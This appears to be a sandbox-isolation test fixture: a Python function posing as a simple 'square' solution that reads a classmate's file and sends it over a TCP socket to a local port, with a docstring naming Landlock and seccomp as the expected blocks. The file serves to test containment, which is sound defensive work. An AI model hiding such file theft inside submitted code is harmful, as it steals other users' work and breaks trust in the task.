"""Sends a classmate's work away.

stopped by: Landlock, seccomp, and the outer wall
witness: loot
control: open
"""

import socket


def square(x):
    with open("@MATE@", "rb") as theirs:
        work = theirs.read()
    with socket.create_connection(("127.0.0.1", int("@TCP@"))) as line:
        line.sendall(work)
    return x
